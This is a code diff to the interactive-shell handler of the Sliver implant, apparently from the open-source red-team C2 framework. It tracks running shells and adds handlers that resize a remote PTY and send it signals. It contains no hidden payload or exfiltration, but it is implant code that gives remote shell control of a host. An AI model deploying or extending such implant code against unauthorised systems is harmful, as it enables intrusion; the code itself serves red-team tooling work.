@@ -24,7 +24,9 @@ import (
 	"log"
 	// {{end}}
 
+	"errors"
 	"io"
+	"sync"
 
 	"github.com/bishopfox/sliver/implant/sliver/shell"
 	"github.com/bishopfox/sliver/implant/sliver/transports"
@@ -33,6 +35,13 @@ import (
 	"google.golang.org/protobuf/proto"
 )
 
+var (
+	// shells - Running interactive shells, TunnelID -> *shell.Shell
+	shells = &sync.Map{}
+
+	errShellNotFound = errors.New("shell not found")
+)
+
 func ShellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
 
 	shellReq := &sliverpb.ShellReq{}
@@ -51,7 +60,7 @@ func ShellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 	}
 
 	shellPath := shell.GetSystemShellPath(shellReq.Path)
-	systemShell, err := shell.StartInteractive(shellReq.TunnelID, shellPath, shellReq.EnablePTY)
+	systemShell, err := shell.StartInteractive(shellReq.TunnelID, shellPath, shellReq.EnablePTY, uint16(shellReq.Rows), uint16(shellReq.Cols))
 	if systemShell == nil {
 		// {{if .Config.Debug}}
 		log.Printf("[shell] Failed to get system shell")
@@ -90,6 +99,7 @@ func ShellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		systemShell.Stderr,
 	)
 	connection.AddTunnel(tunnel)
+	shells.Store(tunnel.ID, systemShell)
 
 	shellResp, _ := proto.Marshal(&sliverpb.Shell{
 		Pid:      uint32(systemShell.Command.Process.Pid),
@@ -108,6 +118,7 @@ func ShellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		// {{end}}
 
 		systemShell.Stop()
+		shells.Delete(tunnel.ID)
 
 		tunnelClose, _ := proto.Marshal(&sliverpb.TunnelData{
 			Closed:   true,
@@ -160,3 +171,51 @@ func ShellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 	// {{end}}
 
 }
+
+// ShellResizeHandler - Resize the PTY of an interactive shell
+func ShellResizeHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	resizeReq := &sliverpb.ShellResizeReq{}
+	err := proto.Unmarshal(envelope.Data, resizeReq)
+	if err == nil {
+		err = errShellNotFound
+		if systemShell, ok := shells.Load(resizeReq.TunnelID); ok {
+			err = systemShell.(*shell.Shell).Resize(uint16(resizeReq.Rows), uint16(resizeReq.Cols))
+		}
+	}
+	resize := &sliverpb.ShellResize{Response: &commonpb.Response{}}
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[shell] Failed to resize: %s", err)
+		// {{end}}
+		resize.Response.Err = err.Error()
+	}
+	data, _ := proto.Marshal(resize)
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
+// ShellSignalHandler - Send a signal to the command running in an interactive shell
+func ShellSignalHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	signalReq := &sliverpb.ShellSignalReq{}
+	err := proto.Unmarshal(envelope.Data, signalReq)
+	if err == nil {
+		err = errShellNotFound
+		if systemShell, ok := shells.Load(signalReq.TunnelID); ok {
+			err = systemShell.(*shell.Shell).Signal(signalReq.Signal)
+		}
+	}
+	signal := &sliverpb.ShellSignal{Response: &commonpb.Response{}}
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[shell] Failed to send %s: %s", signalReq.Signal, err)
+		// {{end}}
+		signal.Response.Err = err.Error()
+	}
+	data, _ := proto.Marshal(signal)
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}